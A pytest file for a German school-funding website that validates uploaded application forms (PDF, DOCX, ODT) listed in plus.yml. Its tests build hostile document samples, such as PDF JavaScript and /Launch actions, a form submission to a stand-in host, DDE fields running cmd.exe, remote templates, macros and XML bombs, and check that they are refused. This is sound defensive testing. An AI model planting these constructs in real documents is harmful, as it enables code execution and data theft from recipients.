"""PLUS+ forms: every bad entry in plus.yml is a German data/plus.yml:<line> problem; good ones become downloads."""
from __future__ import annotations

import datetime
import io
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import feindlich
import pytest
from conftest import DATA, ROOT
from helpers import TODAY, line_of, only, problems, replace
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NullObject, TextStringObject

from schulerfolg.findings import forms
from schulerfolg.findings.forms import dateigroesse, document_date, document_problem
from schulerfolg.load import load
from schulerfolg.site.parts.plus import formulargruppen
from schulerfolg.site.pages import Context

ANTRAG = "formulare/plus-antrag.pdf"


def test_the_sample_forms_are_real_documents_of_their_kind(daten):
    files = [DATA / rel for f in daten.plus.formulare for rel in [f.datei, *f.alternativen]]
    assert len(files) == 9 and {p.suffix for p in files} == {".pdf", ".odt", ".docx"}
    for path in files:
        assert document_problem(path) is None, path
        assert 2_000 < path.stat().st_size < 150_000, path  # small, but not empty shells


@pytest.mark.parametrize("stem, fields", [
    ("plus-antrag", ["Antragsteller", "§ 75 SGB VIII", "Gemeinnützig", "Partnerschule", "Titel des Projekts", "Ziele",
                     "Zielgruppe", "Anzahl der Teilnehmenden", "Zeitraum", "Beantragte Summe", "IBAN", "Unterschrift"]),
    ("plus-finanzierungsplan", ["Ausgaben", "Honorare", "Finanzierung", "Eigenmittel", "Summe", "Unterschrift"]),
    ("plus-abschlussbericht", ["Sachbericht", "Beleg", "Verwendete Förderung", "zurückgezahlt", "Unterschrift"]),
])
def test_the_sample_forms_have_the_fields_an_application_needs(stem, fields):
    from pypdf import PdfReader

    pdf = " ".join(page.extract_text() for page in PdfReader(DATA / "formulare" / f"{stem}.pdf").pages)
    with zipfile.ZipFile(DATA / "formulare" / f"{stem}.docx") as z:
        docx = z.read("word/document.xml").decode()
    with zipfile.ZipFile(DATA / "formulare" / f"{stem}.odt") as z:
        odt = z.read("content.xml").decode()
    for field in fields:
        assert field in pdf and field in docx and field in odt, field
    assert "2.000 €" in pdf or stem == "plus-abschlussbericht"  # the amount comes from data/plus.yml


# --- problems in plus.yml -------------------------------------------------------------------------

def _line(data: Path, needle: str) -> int:
    return line_of(data / "plus.yml", needle)


def test_missing_file(data_copy):
    (data_copy / ANTRAG).unlink()
    assert only(problems(data_copy)).startswith(
        f"data/plus.yml:{_line(data_copy, 'datei: ' + ANTRAG)}:12: Die Datei »data/{ANTRAG}« gibt es nicht.")


def test_wrong_type(data_copy):
    (data_copy / ANTRAG).write_text("Das ist kein PDF.", encoding="utf-8")
    assert only(problems(data_copy)) == (
        f"data/plus.yml:{_line(data_copy, 'datei: ' + ANTRAG)}:12: Die Datei »data/{ANTRAG}« ist kein PDF-, ODT- oder "
        "DOCX-Dokument. Speichern Sie das Formular in einem dieser Formate.")


def test_empty_file(data_copy):
    (data_copy / ANTRAG).write_bytes(b"")
    assert only(problems(data_copy)) == (
        f"data/plus.yml:{_line(data_copy, 'datei: ' + ANTRAG)}:12: Die Datei »data/{ANTRAG}« ist leer. "
        "Laden Sie das Formular erneut hoch.")


def test_oversized_file(data_copy):
    with (data_copy / ANTRAG).open("r+b") as f:
        f.truncate(forms.MAX_DOCUMENT_BYTES + 500_000)  # sparse: costs no disk space
    found = only(problems(data_copy))
    assert found.startswith(f"data/plus.yml:{_line(data_copy, 'datei: ' + ANTRAG)}:12: Die Datei »data/{ANTRAG}« "
                            "ist mit 10,5\u00a0MB zu groß (höchstens 10,0\u00a0MB).")


def test_path_leaving_data(data_copy):
    replace(data_copy / "plus.yml", f"datei: {ANTRAG}", "datei: ../pyproject.toml")
    assert only(problems(data_copy)).startswith(
        f"data/plus.yml:{_line(data_copy, 'datei: ../pyproject.toml')}:12: »../pyproject.toml« muss ein Pfad "
        "innerhalb von data/ sein")


def test_symlink_out_of_data(data_copy, tmp_path):
    outside = tmp_path / "draussen.pdf"
    shutil.copy(DATA / ANTRAG, outside)
    (data_copy / "formulare" / "link.pdf").symlink_to(outside)
    replace(data_copy / "plus.yml", f"datei: {ANTRAG}", "datei: formulare/link.pdf")
    assert "verweist auf eine Datei außerhalb von data/" in only(problems(data_copy))


@pytest.mark.parametrize("old, new, message", [
    ("stand: 2026-01-15", "stand: 2026-02-30",
     "»2026-02-30« ist kein gültiges Datum. Schreiben Sie es als JJJJ-MM-TT und prüfen Sie, ob es den Tag gibt."),
    ("datum: 2026-03-31", "datum: 31.03.2026",
     "»31.03.2026« ist kein gültiges Datum. Schreiben Sie es als JJJJ-MM-TT und prüfen Sie, ob es den Tag gibt."),
    ("abstimmung: 2026-04-23", "abstimmung: 23. April",
     "»23. April« ist kein gültiges Datum. Schreiben Sie es als JJJJ-MM-TT und prüfen Sie, ob es den Tag gibt."),
])
def test_bad_dates(data_copy, old, new, message):
    replace(data_copy / "plus.yml", old, new)
    line = _line(data_copy, new)
    col = (data_copy / "plus.yml").read_text(encoding="utf-8").splitlines()[line - 1].index(new.split(": ")[1]) + 1
    assert only(problems(data_copy)) == f"data/plus.yml:{line}:{col}: {message}"


def test_content_and_extension_disagree(data_copy):
    shutil.copy(DATA / "formulare/plus-antrag.docx", data_copy / "formulare/plus-antrag.odt")
    assert only(problems(data_copy)).endswith(
        "ist dem Inhalt nach ein DOCX-Dokument, endet aber auf ».odt«. Benennen Sie die Datei passend um.")


def test_password_protected_pdf(data_copy):
    w = PdfWriter(clone_from=DATA / ANTRAG)
    w.encrypt(user_password="geheim", algorithm="RC4-128")
    w.write(data_copy / ANTRAG)
    assert "ist mit einem Passwort geschützt" in only(problems(data_copy))


def test_pdf_with_only_an_owner_password_opens_for_everyone(data_copy):
    w = PdfWriter(clone_from=DATA / ANTRAG)
    w.encrypt(user_password="", owner_password="nur-fuer-die-stelle", algorithm="RC4-128")
    w.write(data_copy / ANTRAG)
    assert problems(data_copy) == []


def test_docx_with_macros(data_copy):
    path = data_copy / "formulare/plus-antrag.docx"
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("word/vbaProject.bin", b"\x00" * 64)
    assert "enthält Makros" in only(problems(data_copy))


def test_odt_with_a_password(data_copy):
    path = data_copy / "formulare/plus-antrag.odt"
    buf = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(buf, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "META-INF/manifest.xml":
                data = data.replace(b"</manifest:manifest>", b"<manifest:encryption-data/></manifest:manifest>")
            dst.writestr(info, data)
    path.write_bytes(buf.getvalue())
    assert "ist mit einem Passwort geschützt" in only(problems(data_copy))


def test_old_word_document(data_copy):
    (data_copy / "formulare/plus-antrag.docx").write_bytes(forms.OLE_MAGIC + b"\x00" * 512)
    assert "ist ein altes Word-Dokument (.doc) oder mit einem Passwort geschützt" in only(problems(data_copy))


def test_zip_bomb_is_refused_before_unpacking(tmp_path, monkeypatch):
    monkeypatch.setattr(forms, "MAX_UNPACKED_BYTES", 1_000)  # the sample ODT unpacks to more
    path = tmp_path / "a.odt"
    shutil.copy(DATA / "formulare/plus-antrag.odt", path)
    assert document_problem(path) == "ist beschädigt und lässt sich nicht öffnen. Speichern Sie das Formular neu."


def test_file_name_must_be_url_safe(data_copy):
    (data_copy / ANTRAG).rename(data_copy / "formulare/Antrag PLUS+ 2026.pdf")
    replace(data_copy / "plus.yml", f"datei: {ANTRAG}", "datei: formulare/Antrag PLUS+ 2026.pdf")
    assert only(problems(data_copy)).endswith(
        "Der Dateiname »Antrag PLUS+ 2026.pdf« wird Teil der Download-Adresse und darf nur a–z, 0–9, »-«, »_« und "
        "».« enthalten. Benennen Sie die Datei um, z. B. in »antrag-plus-2026.pdf«.")


def test_two_forms_cannot_share_a_file_name(data_copy):
    (data_copy / "formulare/alt").mkdir()
    shutil.copy(DATA / ANTRAG, data_copy / "formulare/alt/plus-antrag.pdf")
    replace(data_copy / "plus.yml", "datei: formulare/plus-finanzierungsplan.pdf", "datei: formulare/alt/plus-antrag.pdf")
    assert only(problems(data_copy)) == (
        f"data/plus.yml:{_line(data_copy, 'formulare/alt/plus-antrag.pdf')}:12: Eine Formulardatei namens "
        f"»plus-antrag.pdf« steht schon in Zeile {_line(data_copy, 'datei: ' + ANTRAG)}. Jede Datei erscheint unter "
        "/plus/formulare/<Dateiname>: Geben Sie ihr einen eigenen Namen.")


def test_one_form_offers_each_format_once(data_copy):
    shutil.copy(DATA / ANTRAG, data_copy / "formulare/plus-antrag-2.pdf")
    replace(data_copy / "plus.yml", "alternativen: [formulare/plus-antrag.docx,",
            "alternativen: [formulare/plus-antrag-2.pdf, formulare/plus-antrag.docx,")
    assert only(problems(data_copy)).endswith(
        f"Das Formular »antrag« hat schon eine PDF-Datei (Zeile {_line(data_copy, 'datei: ' + ANTRAG)}). "
        "Bieten Sie jedes Format nur einmal an.")


def test_stand_in_the_future(data_copy):
    replace(data_copy / "plus.yml", "stand: 2026-01-15", "stand: 2099-01-01")
    assert only(problems(data_copy)) == (
        f"data/plus.yml:{_line(data_copy, 'stand: 2099-01-01')}:12: Der Stand 01.01.2099 liegt in der Zukunft. "
        "Tragen Sie das Datum der letzten Änderung ein.")


def test_vote_before_the_deadline(data_copy):
    replace(data_copy / "plus.yml", "abstimmung: 2026-04-23", "abstimmung: 2026-03-01")
    assert only(problems(data_copy)) == (
        f"data/plus.yml:{_line(data_copy, 'abstimmung: 2026-03-01')}:17: Die Abstimmung (01.03.2026) muss nach dem "
        "letzten Tag der Frist (31.03.2026) liegen. Prüfen Sie beide Daten.")


def test_same_deadline_twice(data_copy):
    replace(data_copy / "plus.yml", "fristen:\n", "fristen:\n  - datum: 2026-03-31\n    titel: Antragsfrist Frühjahr 2026\n")
    lines = (data_copy / "plus.yml").read_text(encoding="utf-8").splitlines()
    first = lines.index("  - datum: 2026-03-31") + 1
    second = lines.index("  - datum: 2026-03-31", first) + 1
    assert only(problems(data_copy)) == (
        f"data/plus.yml:{second}:5: Diese Frist (gleicher Tag, gleicher Titel) steht schon in Zeile {first}. "
        "Löschen Sie einen der beiden Einträge.")


def test_all_mistakes_at_once(data_copy):
    (data_copy / ANTRAG).write_bytes(b"")
    (data_copy / "formulare/plus-antrag.odt").unlink()
    replace(data_copy / "plus.yml", "stand: 2026-01-15", "stand: 2099-01-01")
    replace(data_copy / "plus.yml", "abstimmung: 2026-04-23", "abstimmung: 2026-03-01")
    found = problems(data_copy)
    assert len(found) == 4 and all(p.startswith("data/plus.yml:") for p in found)


# --- downloads ------------------------------------------------------------------------------------

def test_link_texts_state_format_and_size_in_german(daten):
    assert dateigroesse(181_500) == "182\u00a0KB"
    assert dateigroesse(300) == "1\u00a0KB"
    assert dateigroesse(1_250_000) == "1,3\u00a0MB"
    [antrag, *_] = formulargruppen(Context(daten, datetime.date(2026, 3, 1)))
    size = (DATA / ANTRAG).stat().st_size
    assert antrag.dateien[0].groesse == f"{-(-size // 1000)}\u00a0KB"
    assert [d.format for d in antrag.dateien] == ["PDF", "DOCX", "ODT"]
    assert [d.seiten for d in antrag.dateien] == [3, None, None]  # pages only for PDFs
    assert antrag.stand_text == "15. Januar 2026"


def test_without_stand_the_date_comes_from_the_documents_themselves(data_copy):
    replace(data_copy / "plus.yml", "    stand: 2026-01-15\n", "")  # the first form only
    assert document_date(data_copy / "formulare/plus-antrag.odt") == datetime.date(2026, 1, 15)
    daten = load(data_copy, TODAY).daten
    assert daten.plus.formulare[0].stand is None
    assert formulargruppen(Context(daten, TODAY))[0].stand_text == "15. Januar 2026"


# --- what a form may contain: nothing that runs, fetches or sends by itself ------------------------

PDF_FIX = "Speichern Sie das Formular ohne diese Teile neu, z. B. mit »Exportieren als PDF« im Textprogramm."


def _problem_at(data: Path, rel: str) -> str:
    """The start of the problem for ``rel`` in plus.yml, with line and column."""
    line = _line(data, rel)
    col = (data / "plus.yml").read_text(encoding="utf-8").splitlines()[line - 1].index(rel) + 1
    return f"data/plus.yml:{line}:{col}: Die Datei »data/{rel}« "


def _js(code: str = "app.alert(1);") -> DictionaryObject:
    return feindlich.aktion(S="/JavaScript", JS=code)


@pytest.mark.parametrize("aendern, enthaelt", [
    (feindlich.im_katalog("Names", feindlich.woerterbuch(JavaScript=feindlich.woerterbuch(
        Names=ArrayObject([TextStringObject("Start"), _js("app.alert('Hallo');")])))), "JavaScript (Programmcode)"),
    (feindlich.im_katalog("OpenAction", _js()),
     "JavaScript (Programmcode) und eine Aktion, die beim Öffnen von selbst startet"),
    (feindlich.im_katalog("OpenAction", feindlich.aktion(S="/Named", N="/Print")),
     "eine Aktion, die beim Öffnen von selbst startet"),
    (feindlich.auf_der_seite("AA", feindlich.woerterbuch(O=feindlich.aktion(S="/Named", N="/NextPage"))),
     "Aktionen, die von selbst starten, z. B. beim Ausfüllen eines Feldes"),
    (feindlich.textfeld(AA=feindlich.woerterbuch(K=_js("AFNumber_Keystroke(2);"))),
     "JavaScript (Programmcode) und Aktionen, die von selbst starten, z. B. beim Ausfüllen eines Feldes"),
    (feindlich.mit_link(feindlich.aktion(S="/Launch", F="C:\\Windows\\System32\\calc.exe")),
     "einen Befehl, der ein anderes Programm startet"),
    (feindlich.mit_link(feindlich.aktion(S="/SubmitForm", F="https://fremd.example/sammeln")),
     "eine Aktion, die Eingaben an einen Server sendet"),
    (feindlich.mit_link(feindlich.aktion(S="/ImportData", F="daten.fdf")),
     "eine Aktion, die Daten aus einer anderen Datei einliest"),
    (feindlich.mit_link(feindlich.aktion(S="/GoToR", F="anderes.pdf", D="/Seite1")),
     "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"),
    (feindlich.mit_link(feindlich.aktion(S="/GoToE", D="/Seite1")),
     "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"),
    (feindlich.mit_link(feindlich.aktion(S="/URI", URI="file:///C:/geheim.txt")),
     "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"),
    (feindlich.mit_link(feindlich.aktion(S="/URI", URI="javascript:alert(1)")), "JavaScript (Programmcode)"),
    (lambda w: w.add_attachment("liste.xlsx", b"geheim"), "eingebettete Dateien (Anhänge oder Multimedia)"),
    (feindlich.auf_der_seite("Annots", ArrayObject([feindlich.woerterbuch(Type="/Annot", Subtype="/FileAttachment")])),
     "eingebettete Dateien (Anhänge oder Multimedia)"),
    (feindlich.auf_der_seite("Annots", ArrayObject([feindlich.woerterbuch(Type="/Annot", Subtype="/RichMedia")])),
     "eingebettete Dateien (Anhänge oder Multimedia)"),
    (feindlich.im_katalog("AcroForm", feindlich.woerterbuch(XFA="<xdp:xdp/>")),
     "ein XFA-Formular, das Programmcode enthalten kann"),
], ids=["javascript", "openaction-js", "openaction", "aa", "feld-js", "launch", "submitform", "importdata", "gotor",
        "gotoe", "uri-datei", "uri-javascript", "anhang", "fileattachment", "richmedia", "xfa"])
def test_pdf_that_runs_fetches_or_sends_something_is_refused(data_copy, aendern, enthaelt):
    (data_copy / ANTRAG).write_bytes(feindlich.pdf(aendern))
    assert only(problems(data_copy)) == f"{_problem_at(data_copy, ANTRAG)}enthält {enthaelt}. {PDF_FIX}"


@pytest.mark.parametrize("aendern", [
    feindlich.textfeld(),  # fillable forms are welcome (a later issue makes ours fillable)
    feindlich.mit_link(feindlich.aktion(S="/URI", URI="https://www.dessau-rosslau.de/")),
    feindlich.mit_link(feindlich.aktion(S="/URI", URI="mailto:schulerfolg@example.org")),
    feindlich.im_katalog("OpenAction", feindlich.aktion(S="/GoTo", D="/Seite1")),  # "open at page 1"
], ids=["textfeld", "weblink", "mailto", "openaction-seite"])
def test_pdf_with_fields_links_and_a_start_page_is_fine(data_copy, aendern):
    (data_copy / ANTRAG).write_bytes(feindlich.pdf(aendern))
    assert problems(data_copy) == []


def test_a_pdf_that_opens_at_a_page_is_fine(data_copy):
    """LibreOffice writes »/OpenAction [page /XYZ …]« into every PDF it exports: a destination, not an action.
    (The sample PDFs come from WeasyPrint since they became fillable, so the destination is written here.)"""
    from pypdf import PdfReader

    writer = PdfWriter(clone_from=data_copy / ANTRAG)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference,
                                                                  NameObject("/XYZ"), NullObject(), NullObject(),
                                                                  NullObject()])
    writer.write(data_copy / ANTRAG)
    assert isinstance(PdfReader(data_copy / ANTRAG).trailer["/Root"]["/OpenAction"], ArrayObject)
    assert document_problem(data_copy / ANTRAG) is None


# What each sample PDF asks, by field type: /Tx text (also dates), /Btn checkbox; and its date fields.
FELDER = {
    "plus-antrag": ({"/Tx": 28, "/Btn": 14}, ["zeitraum-des-projekts-von-bis-von", "zeitraum-des-projekts-von-bis-bis",
                                              "datum", "gemeinnuetzig-freistellungsbescheid-des-finanzamts-vom"]),
    "plus-finanzierungsplan": ({"/Tx": 28}, ["datum"]),
    "plus-abschlussbericht": ({"/Tx": 37, "/Btn": 1}, ["tatsaechlicher-zeitraum-von-bis-von", "beleg-1-datum", "datum"]),
}


@pytest.mark.parametrize("stem", FELDER)
def test_sample_pdfs_are_fillable_tagged_forms_in_german(stem):
    """The fields read back with pypdf: names, types and what a screen reader says (/TU); the document is
    tagged (structure tree, /MarkInfo), says it is German and has its title – and runs nothing."""
    from pypdf import PdfReader

    path = DATA / "formulare" / f"{stem}.pdf"
    reader = PdfReader(path)
    katalog = reader.trailer["/Root"]
    arten, datumsfelder = FELDER[stem]
    felder = reader.get_fields()
    assert {art: sum(1 for f in felder.values() if f.get("/FT") == art) for art in arten} == arten
    assert len(felder) == sum(arten.values())
    for name, feld in felder.items():
        assert feld.get("/TU"), name  # every field has an accessible name
    widgets = {a["/T"]: a for page in reader.pages for a in (w.get_object() for w in page.get("/Annots", []))
               if a.get("/Subtype") == "/Widget"}
    for name in datumsfelder:
        assert widgets[name]["/FT"] == "/Tx" and widgets[name]["/MaxLen"] == 10, name
        assert "TT.MM.JJJJ" in widgets[name]["/TU"], name
    assert "/StructTreeRoot" in katalog and bool(katalog["/MarkInfo"]["/Marked"])
    assert katalog["/Lang"] == "de"
    assert reader.metadata.title and bool(katalog["/ViewerPreferences"]["/DisplayDocTitle"])
    assert "/XFA" not in katalog["/AcroForm"]
    assert document_problem(path) is None  # no JavaScript, no actions: the file check accepts it
    assert document_date(path) == datetime.date(2026, 1, 15)


OEFFNEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"


@pytest.mark.parametrize("objekte, katalog, enthaelt", [
    # a name written with #-escapes: /J#53 is /JS
    ((b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>",), OEFFNEN,
     "JavaScript (Programmcode) und eine Aktion, die beim Öffnen von selbst startet"),
    # the action's type behind a reference
    ((b"<< /Type /Action /S 5 0 R /F (calc.exe) >>", b"/Launch"), OEFFNEN,
     "eine Aktion, die beim Öffnen von selbst startet und einen Befehl, der ein anderes Programm startet"),
    # an object no page uses: a viewer that repairs the file may still find it
    ((b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",), b"<< /Type /Catalog /Pages 2 0 R >>",
     "JavaScript (Programmcode)"),
], ids=["name-escapes", "referenz", "verwaist"])
def test_hidden_actions_are_found(data_copy, objekte, katalog, enthaelt):
    (data_copy / ANTRAG).write_bytes(feindlich.roh_pdf(*objekte, katalog=katalog))
    assert only(problems(data_copy)) == f"{_problem_at(data_copy, ANTRAG)}enthält {enthaelt}. {PDF_FIX}"


def test_a_repaired_pdf_leaves_no_english_lines_on_the_terminal(data_copy):
    """pypdf logs its repairs (»EOF marker not found«); the check prints only its own German message."""
    (data_copy / ANTRAG).write_bytes(b"%PDF-1.4 kaputt")
    out = subprocess.run([sys.executable, "-m", "schulerfolg", "--data", str(data_copy), "check"], capture_output=True,
                         text=True, env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert out.returncode == 1 and "ist ein beschädigtes PDF" in out.stdout
    assert out.stderr == ""


def test_the_hand_written_pdf_is_a_good_form_without_script(data_copy):
    """Guard for the test above: the same bytes without the script are accepted."""
    (data_copy / ANTRAG).write_bytes(feindlich.roh_pdf(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>",
                                                       katalog=OEFFNEN))
    assert problems(data_copy) == []


DOCX = "formulare/plus-antrag.docx"
ODT = "formulare/plus-antrag.odt"
RELS = "word/_rels/document.xml.rels"
VERWEIS = "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"
OBJEKT = "eingebettete Objekte (OLE-Objekte, ActiveX-Steuerelemente oder andere Dokumente)"
MAKROS = "Makros oder Skripte (Programmcode)"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _feld(*teile: str) -> str:
    """A Word field whose instruction is written in several runs, as Word does."""
    runs = "".join(f"<w:r><w:instrText xml:space=\"preserve\">{t}</w:instrText></w:r>" for t in teile)
    return (f'<w:p {W}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.mark.parametrize("teile, enthaelt", [
    ({"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
      b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
      b'Target="https://fremd.example/vorlage.dotm" TargetMode="External"/></Relationships>'}, VERWEIS),
    ({RELS: feindlich.beziehung("image", "https://tracker.example/pixel.png")}, VERWEIS),
    ({RELS: feindlich.beziehung("subDocument", "file:///C:/akten/teil2.docx")}, VERWEIS),
    ({RELS: feindlich.beziehung("frame", "https://fremd.example/")}, VERWEIS),
    ({RELS: feindlich.beziehung("hyperlink", "file://server/freigabe/liste.xlsx")}, VERWEIS),
    ({"word/document.xml": feindlich.im_text(_feld(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "))}, VERWEIS),
    ({"word/document.xml": feindlich.im_text(f'<w:p {W}><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d "/></w:p>')}, VERWEIS),
    ({RELS: feindlich.beziehung("oleObject", "embeddings/oleObject1.bin", extern=False),
      "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, OBJEKT),
    ({"word/document.xml": feindlich.im_text(f'<w:altChunk {W} r:id="rIdX" xmlns:r="{feindlich.REL[:-1]}"/>')}, OBJEKT),
    ({"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"}, OBJEKT),
    ({"word/vbaProject.bin": b"\x00" * 64}, MAKROS),
    ({"[Content_Types].xml": feindlich.einfuegen(b"</Types>", b'<Override PartName="/word/document.xml" '
      b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')}, MAKROS),
    ({"word/document.xml": feindlich.im_text(_feld(" MACROBUTTON Start Hier klicken "))}, MAKROS),
], ids=["vorlage", "bild", "teildokument", "frame", "link-auf-datei", "dde", "includepicture", "ole", "altchunk",
        "activex", "vbaproject", "macroenabled", "macrobutton"])
def test_docx_with_macros_external_references_or_objects_is_refused(data_copy, teile, enthaelt):
    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, teile))
    assert only(problems(data_copy)) == (f"{_problem_at(data_copy, DOCX)}enthält {enthaelt}. Speichern Sie das "
                                         "Formular ohne diese Teile als normales DOCX-Dokument.")


def test_docx_with_an_ordinary_link_is_fine(data_copy):
    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {
        RELS: feindlich.beziehung("hyperlink", "https://www.dessau-rosslau.de/"),
        "word/document.xml": feindlich.im_text(_feld(" PAGE ")),
    }))
    assert problems(data_copy) == []


def test_a_field_whose_name_another_field_makes_is_refused(data_copy):
    """{ {QUOTE 68 68 69} … }: Word would build »DDE« at run time."""
    innen = _feld(" QUOTE 68 68 69 ").replace(f'<w:p {W}>', "").replace("</w:p>", "")
    aussen = (f'<w:p {W}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{innen}'
              '<w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {"word/document.xml": feindlich.im_text(aussen)}))
    assert f"enthält {VERWEIS}." in only(problems(data_copy))


@pytest.mark.parametrize("xml", [
    feindlich.BILLION_LAUGHS,
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY name "Antrag">]><w:document ' + W.encode()
    + b"><w:body><w:p><w:r><w:t>&name;</w:t></w:r></w:p></w:body></w:document>",
], ids=["billion-laughs", "dtd"])
def test_a_document_with_a_dtd_costs_nothing_and_is_refused(data_copy, xml):
    """Word and LibreOffice never write a DTD; it is how XML bombs and external entities get in. defusedxml
    refuses it before expanding anything."""
    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {"word/document.xml": xml}))
    assert only(problems(data_copy)) == (f"{_problem_at(data_copy, DOCX)}ist beschädigt und lässt sich nicht öffnen. "
                                         "Speichern Sie das Formular neu.")


@pytest.mark.parametrize("teile, enthaelt", [
    ({"content.xml": feindlich.im_odt_text('<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
                                           'language=Basic&amp;location=document">Start</text:a></text:p>')}, MAKROS),
    ({"content.xml": feindlich.einfuegen(b"<office:body>", b'<office:scripts><office:script '
      b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="ooo:Basic"/></office:scripts>')},
     MAKROS),
    ({"content.xml": feindlich.im_odt_text('<office:event-listeners><script:event-listener script:language="ooo:script" '
                                           'script:event-name="dom:load" xlink:href="https://fremd.example/"/>'
                                           '</office:event-listeners>')}, MAKROS),
    ({"Basic/Standard/Module1.xml": b"<script/>"}, MAKROS),
    ({"content.xml": feindlich.im_odt_text('<text:p><draw:frame><draw:image xlink:href="https://tracker.example/p.png"/>'
                                           '</draw:frame></text:p>')}, VERWEIS),
    ({"content.xml": feindlich.im_odt_text('<text:section-source xlink:href="file:///C:/akten/teil2.odt"/>')}, VERWEIS),
    ({"content.xml": feindlich.im_odt_text('<text:p><text:a xlink:href="../interne/liste.ods">Liste</text:a></text:p>')},
     VERWEIS),
    ({"meta.xml": feindlich.einfuegen(b"</office:meta>", b'<meta:template xmlns:xlink="http://www.w3.org/1999/xlink" '
      b'xlink:href="file:///S:/vorlagen/antrag.ott" xlink:title="Antrag"/>')}, VERWEIS),
    ({"content.xml": feindlich.im_odt_text('<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>'),
      "Object 1/content.xml": b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"},
     OBJEKT),
    ({"content.xml": feindlich.im_odt_text('<text:p><draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame></text:p>')},
     OBJEKT),
], ids=["makro-link", "basic-in-content", "ereignis", "basic-ordner", "bild-extern", "bereich-verknuepft", "link-auf-datei",
        "vorlage", "objekt", "ole"])
def test_odt_with_macros_external_references_or_objects_is_refused(data_copy, teile, enthaelt):
    (data_copy / ODT).write_bytes(feindlich.zip_mit(DATA / ODT, teile))
    assert only(problems(data_copy)) == (f"{_problem_at(data_copy, ODT)}enthält {enthaelt}. Speichern Sie das "
                                         "Formular ohne diese Teile als normales ODT-Dokument.")


def test_odt_with_ordinary_links_and_an_empty_script_list_is_fine(data_copy):
    """LibreOffice writes an empty <office:scripts/> into every document it saves."""
    (data_copy / ODT).write_bytes(feindlich.zip_mit(DATA / ODT, {
        "content.xml": lambda alt: feindlich.im_odt_text(
            '<text:p><text:a xlink:href="https://www.dessau-rosslau.de/">Stadt</text:a> '
            '<text:a xlink:href="mailto:schulerfolg@example.org">E-Mail</text:a> '
            '<text:a xlink:href="#Ziele">Ziele</text:a></text:p>')(
            feindlich.einfuegen(b"<office:body>", b"<office:scripts/>")(alt)),
    }))
    assert problems(data_copy) == []


def test_several_findings_are_named_together(data_copy):
    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {
        RELS: feindlich.beziehung("image", "https://tracker.example/pixel.png"), "word/vbaProject.bin": b"\x00"}))
    assert only(problems(data_copy)).endswith(f"enthält {MAKROS} und {VERWEIS}. Speichern Sie das Formular ohne diese "
                                              "Teile als normales DOCX-Dokument.")
